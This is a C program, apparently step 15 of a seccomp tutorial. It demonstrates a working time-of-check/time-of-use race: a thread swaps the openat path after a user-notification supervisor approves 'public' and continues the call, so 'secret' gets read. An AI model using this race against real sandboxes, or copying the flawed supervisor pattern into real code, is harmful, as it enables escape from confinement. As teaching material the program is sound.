/* step15-race.c - an attack: the path that is changed after it was checked
 *
 *   ./step15-race DIR          DIR/public may be opened, DIR/secret may not
 *
 * The supervisor reads the path from the caller's memory, and lets the call go
 * on if it is DIR/public.  Then the kernel reads it again.  A second thread of
 * the caller changes it all the time.
 *
 * New in this step: SECCOMP_USER_NOTIF_FLAG_CONTINUE.  See seccomp_unotify(2). */
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <pthread.h>
#include <seccomp.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static union { char name[8]; _Atomic uint64_t word; } path = { "public" }, public = { "public" }, secret = { "secret" };

static void *change(void *unused)
{
	for (int i = 0;; i = !i)
		atomic_store(&path.word, i ? public.word : secret.word);
	return unused;
}

static int attacker(int tell)
{
	scmp_filter_ctx ctx = seccomp_init(SCMP_ACT_ALLOW);
	int rc = seccomp_rule_add(ctx, SCMP_ACT_NOTIFY, SCMP_SYS(openat), 0), listener;
	pthread_t thread;

	prctl(PR_SET_PDEATHSIG, SIGKILL);	/* nobody else would answer us */
	listener = rc == 0 && seccomp_load(ctx) == 0 ? seccomp_notify_fd(ctx) : -1;
	if (write(tell, &listener, sizeof(listener)) < 0 || listener < 0 || pthread_create(&thread, NULL, change, NULL) != 0)
		return 1;
	for (int tries = 1; tries < 200000; tries++) {
		int fd = (int)syscall(SYS_openat, AT_FDCWD, path.name, O_RDONLY);
		char text[32] = "";

		if (read(fd, text, sizeof(text) - 1) > 0 && !strstr(text, "public"))
			return printf("attacker:   try %d reads: %s", tries, text) < 0;
		close(fd);
	}
	return 1;
}

/* Answer one call; the result is 1 if it may go on. */
static int supervise(int listener)
{
	struct seccomp_notif_resp reply = { .error = -EPERM };
	struct seccomp_notif call = { 0 };
	char seen[8];
	struct iovec here = { seen, sizeof(seen) }, there = here;

	if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &call) == -1)
		err(1, "SECCOMP_IOCTL_NOTIF_RECV");
	there.iov_base = (void *)call.data.args[1];
	if (process_vm_readv((pid_t)call.pid, &here, 1, &there, 1, 0) == -1)
		err(1, "process_vm_readv");
	if (strcmp(seen, "public") == 0)
		reply = (struct seccomp_notif_resp){ .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE };
	reply.id = call.id;
	return ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &reply) == 0 && !reply.error;
}

int main(int argc, char **argv)
{
	int tell[2], status, allowed = 0, child;
	struct pollfd listener = { .events = POLLIN };

	if (argc != 2) {
		fprintf(stderr, "usage: %s DIR\n", argv[0]);
		return 2;
	}
	if (chdir(argv[1]) == -1 || pipe(tell) == -1)
		err(1, "%s", argv[1]);
	if ((child = fork()) == 0)
		exit(attacker(tell[1]));
	if (read(tell[0], &listener.fd, sizeof(int)) == sizeof(int) && listener.fd >= 0)	/* see step 14 */
		listener.fd = (int)syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, child, 0), listener.fd, 0);
	if (listener.fd <= 0)
		errx(77, "this kernel or libseccomp cannot notify");
	while (waitpid(child, &status, WNOHANG) == 0)
		if (poll(&listener, 1, 50) > 0 && (listener.revents & POLLIN))
			allowed += supervise(listener.fd);
	printf("supervisor: allowed %d times, always to open: public\n", allowed);
	return WEXITSTATUS(status);
}
